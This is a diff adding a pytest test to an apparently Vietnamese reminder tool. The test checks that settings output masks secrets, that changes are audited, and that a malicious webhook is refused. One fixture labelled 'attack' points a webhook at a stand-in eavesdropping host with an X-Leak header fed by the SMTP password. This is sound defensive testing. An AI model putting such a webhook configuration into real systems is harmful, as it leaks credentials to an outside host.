@@ -150,3 +150,41 @@ def test_serve_stops_on_ctrl_c(office, tmp_path):
             proc.kill()
     assert proc.returncode == 0, err
     assert "Đã dừng nhắc việc." in out
+
+
+def test_settings_show_masks_secrets_and_a_change_is_audited(capsys, tmp_path):
+    from analytics import audit
+    from analytics.ops import OpsStore
+    from analytics.reminders.settings import load_settings
+
+    ops = tmp_path / "ops.sqlite"
+    store = OpsStore(ops)
+    load_settings(store)
+    # Saved before literal secrets were refused: shown masked, never in clear.
+    legacy = [{"name": "sms", "type": "webhook", "url": "https://u:mat-khau-url@sms.example.vn/send?key=khoa-cu",
+               "headers": {"Authorization": "Bearer ma-cu-123"}, "token_secret": "MOTCUA_SMS_TOKEN",
+               "body": {"to": "${to}", "auth": {"password": "mat-khau-long"}}}]
+    store.execute("insert into reminder_settings (key, value, updated_at) values ('channels', ?, 'x')",
+                  (json.dumps(legacy),))
+    for fmt in ("text", "json"):
+        code, out, _ = remind(capsys, "settings", "show", "--ops", ops, "--format", fmt)
+        assert code == 0
+        for secret in ("mat-khau-url", "khoa-cu", "ma-cu-123", "mat-khau-long"):
+            assert secret not in out, (fmt, secret)
+        assert "***" in out and "MOTCUA_SMS_TOKEN" in out
+    # The webhook-steals-the-SMTP-password change is refused with a reason.
+    attack = json.dumps([{"name": "sms", "type": "webhook", "url": "https://nghe-len.example/thu",
+                          "headers": {"X-Leak": "${token}"}, "token_secret": "MOTCUA_SMTP_PASSWORD"}])
+    code, _, err = remind(capsys, "settings", "set", "channels", attack, "--ops", ops)
+    assert code == 2 and "token_secret" in err and "MOTCUA_SMS_TOKEN" in err
+    # While a secret is written in a channel, no change is saved until it is taken out.
+    code, _, err = remind(capsys, "settings", "set", "near_due_days", "2", "--ops", ops)
+    assert code == 2 and "bí mật ghi thẳng" in err and "ma-cu-123" not in err
+    fixed = json.dumps([{"name": "sms", "type": "webhook", "url": "https://sms.example.vn/send",
+                         "headers": {"Authorization": "Bearer ${token}"}, "token_secret": "MOTCUA_SMS_TOKEN"}])
+    code, out, _ = remind(capsys, "settings", "set", "channels", fixed, "--ops", ops)
+    assert code == 0 and "Bearer ${token}" in out
+    [entry] = audit.entries(store, action=audit.REMINDER_SETTINGS)
+    assert entry.actor.startswith("cli:") and list(entry.detail["changes"]) == ["channels"]
+    text = json.dumps(entry.detail, ensure_ascii=False)
+    assert "Bearer ***" in text and not any(s in text for s in ("mat-khau-url", "khoa-cu", "ma-cu-123"))
